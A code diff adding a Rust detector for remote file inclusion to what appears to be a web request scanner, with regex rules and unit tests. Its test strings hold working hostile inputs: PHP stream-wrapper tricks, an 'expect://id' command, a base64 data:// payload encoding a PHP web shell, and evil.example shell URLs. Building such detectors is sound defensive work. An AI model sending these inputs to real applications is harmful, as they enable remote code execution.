@@ -1,0 +1,91 @@
+//! Remote file inclusion: a value that makes a script include code from somewhere else.
+//!
+//! A URL in an API value is normal (webhooks, avatars, links), so a URL alone is never a finding.
+//! What is: a stream wrapper only PHP's `include` understands (`php://filter`, `expect://`,
+//! `phar://`, `data://text/plain;base64,`), a URL whose trailing `?`, `#` or NUL cuts off the
+//! suffix the application appends, a URL in a *path segment* (`/get/https://evil/`), and a URL in
+//! a parameter whose name says it is included (`include`, `template`, `mosConfig_absolute_path`).
+
+use super::{Check, Family, Hit, Rules, Subject};
+use crate::fields::Part;
+use crate::finding::Severity::{Critical, High};
+
+pub(crate) struct Rfi {
+    rules: Rules,
+    url: regex::Regex,
+    path_scheme: regex::Regex,
+    include_name: regex::Regex,
+}
+
+impl Rfi {
+    pub fn new() -> Result<Rfi, String> {
+        let table = [
+            (r"(?:^|[\s=(])(?:php|expect|phar|zip|compress\.zlib|compress\.bzip2|glob|ogg|rar|zlib)://", Critical, 0.9, "PHP stream wrapper"),
+            (r"(?:^|[\s=(])data://(?:text|application)/", Critical, 0.9, "data:// stream wrapper"),
+            (r"^(?:https?|ftps?)://[^\s]+\.(?:txt|php\d?|phtml|inc|jpg|gif|png)\?+$", High, 0.8, "remote script URL with suffix cut-off"),
+            (r"^(?:https?|ftps?)://[^\s?]+\?{2,}$|^(?:https?|ftps?)://\S+%00", High, 0.8, "remote URL with suffix cut-off"),
+        ];
+        Ok(Rfi {
+            rules: Rules::new(Family::Rfi, &table)?,
+            url: super::regex(r"^(?:https?|ftps?|file):/{1,3}[^\s]")?,
+            path_scheme: super::regex(r"^(?:https?|ftps?|file):(?:$|/)")?,
+            include_name: super::regex(r"(?i)(?:include|inc_?file|require|template|tpl|mosconfig|absolute_path|_conf\[|conf\[|rootpath|root_path|base_?dir|appdir|lib_?path|module_?path|page_?file|load_?file)")?,
+        })
+    }
+}
+
+impl Check for Rfi {
+    fn triggers(&self) -> &'static [&'static str] {
+        &["://", "http:", "https:", "ftp:", "file:"]
+    }
+
+    fn check(&self, s: &Subject<'_>) -> Option<Hit> {
+        if let Some(hit) = self.rules.best(s.text) {
+            return Some(hit);
+        }
+        // Path segments are split at `/`, so `/get/https://x/` arrives as the segment `https:`.
+        if s.part == Part::Path && self.path_scheme.is_match(s.text) {
+            return Some(Hit::new(Family::Rfi, High, 0.8, 0, "URL in a path segment"));
+        }
+        if self.url.is_match(s.text) {
+            if self.include_name.is_match(s.name) {
+                return Some(Hit::new(Family::Rfi, High, 0.8, 0, "URL in an include parameter"));
+            }
+        }
+        None
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::testing::*;
+    use crate::fields::{Part, ValueType};
+
+    #[test]
+    fn catches_rfi() {
+        assert_family(
+            "attack.rfi",
+            &[
+                "php://filter/convert.base64-encode/resource=index.php",
+                "expect://id",
+                "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzFdKTsgPz4=",
+                "http://evil.example/shell.txt?",
+                "https://evil.example/x.php??",
+                "phar://uploads/avatar.jpg/x",
+            ],
+            &[
+                "https://example.com/avatar.png",
+                "http://example.com/search?q=1",
+                "See https://docs.example.com/page?",
+                "ftp://mirror.example.org/pub/file.tar.gz",
+            ],
+        );
+        let at = |part, name: &str, v: &str| {
+            let f = scan_at(part, ValueType::Text, name, v);
+            f.iter().any(|f| f.kind == "attack.rfi")
+        };
+        assert!(at(Part::Query, "mosConfig_absolute_path", "https://foo.bar"));
+        assert!(at(Part::Path, "", "https:"));
+        assert!(!at(Part::Query, "webhook_url", "https://hooks.example.com/x"));
+    }
+}
